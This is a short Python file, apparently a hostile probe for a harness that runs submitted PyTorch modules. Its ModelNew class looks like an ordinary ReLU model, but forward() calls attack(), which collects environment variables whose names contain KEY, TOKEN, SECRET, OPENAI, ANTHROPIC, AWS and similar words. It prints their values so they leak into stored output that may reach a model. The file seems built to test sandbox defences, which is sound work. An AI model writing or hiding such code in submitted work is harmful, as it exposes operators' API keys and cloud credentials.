# Hostile: read keys and provider settings from this process's own environment and leak them in
# the error message, which is stored and can be fed back to a model.
import os

import torch
import torch.nn as nn

WORDS = ("KEY", "TOKEN", "SECRET", "OPENAI", "ANTHROPIC", "GEMINI", "GOOGLE", "KBP_DB", "AWS")


def attack():
    found = ["%s=%s" % (k, v) for k, v in os.environ.items() if any(w in k for w in WORDS)]
    if not found:
        raise PermissionError("no key or provider variable in the environment")
    print("leaked: " + " ".join(found))


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x):
        attack()
        return torch.relu(x)
